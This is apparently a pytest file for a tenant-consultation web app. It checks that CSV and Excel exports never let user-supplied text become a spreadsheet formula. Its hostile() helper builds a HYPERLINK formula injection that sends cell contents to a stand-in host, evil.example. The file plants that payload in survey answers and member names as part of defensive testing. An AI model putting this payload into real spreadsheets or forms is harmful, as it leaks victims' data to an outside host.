"""Formula injection: no text from tenants or the board becomes a formula in any export.

Every export (the aggregated results, the answers per respondent, the member list), as CSV
and as Excel, gets text starting with each character a spreadsheet reads as the start of a
formula: = + - @, a tab and a carriage return.
"""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest

from consult.core import clock
from consult.core.spreadsheets import FORMULA_STARTS
from consult.extensions import db
from consult.surveys import builder
from consult.surveys import services as surveys
from consult.surveys.models.questions import QuestionKind
from consult.surveys.models.responses import Channel
from tests import factories
from tests.conftest import login

EXPORTS = [
    ("GET", "/consultations/{consultation_id}/results.{kind}"),
    ("GET", "/consultations/{consultation_id}/responses.{kind}"),
    ("POST", "/panel/export.{kind}"),
]


def hostile(start: str) -> str:
    return f'{start}HYPERLINK("https://evil.example/?"&A1,"klik")'


def _consultation(org, start: str):
    """An open consultation whose option, "other" text, open answer and number answers are
    hostile; five responses, so that nothing is held back as a small group."""
    today = clock.today()
    survey = surveys.create_consultation(
        org, "Servicekosten", "", today - timedelta(days=1), today + timedelta(days=9)
    )
    choice = builder.add_question(
        survey,
        QuestionKind.SINGLE_CHOICE,
        "Welke post?",
        options=[hostile(start), "Groen"],
        allows_other=True,
    )
    number = builder.add_question(survey, QuestionKind.NUMBER, "Hoeveel?", min_value=-5)
    text = builder.add_question(survey, QuestionKind.SHORT_TEXT, "Straat?")
    survey.publish()
    for index in range(5):
        answers = {
            choice.id: {"options": [choice.options[0].id]}
            if index
            else {"options": [], "other": hostile(start)},
            number.id: {"number": -3},
            text.id: {"text": hostile(start)},
        }
        surveys.record_response(survey, answers, Channel.PAPER)
    return survey


def _cells(kind: str, data: bytes) -> list:
    if kind == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
        return [cell for row in rows for cell in row]
    cells = [
        cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row
    ]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells]


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_export_holds_a_formula(app, client, world, start, kind):
    """Does no exported cell start with this character unless it is a number (text gets a
    leading apostrophe), in every export, while numbers stay numbers?"""
    from consult.organisations.models import Organisation

    with app.app_context():
        org = db.session.get(Organisation, world.a.id)
        factories.member(org, name=hostile(start))
        survey_id = _consultation(org, start).id
        db.session.commit()
    login(client, world.a.board)
    for method, path in EXPORTS:
        url = f"/o/{world.a.slug}" + path.format(consultation_id=survey_id, kind=kind)
        response = client.open(url, method=method)
        assert response.status_code == 200, url
        cells = _cells(kind, response.data)
        texts = [c for c in cells if isinstance(c, str)]
        # Stored text may have lost a leading tab or line break; either way it is there.
        assert [c for c in texts if "evil.example" in c], url
        assert not [c for c in texts if c.startswith(FORMULA_STARTS) and not _number(c)], url
        if "responses" in path:
            assert (-3 if kind == "xlsx" else "-3") in cells


def _number(text: str) -> bool:
    """A number written in CSV (a negative one starts with "-"; Dutch: a decimal comma), not
    text from a person."""
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True
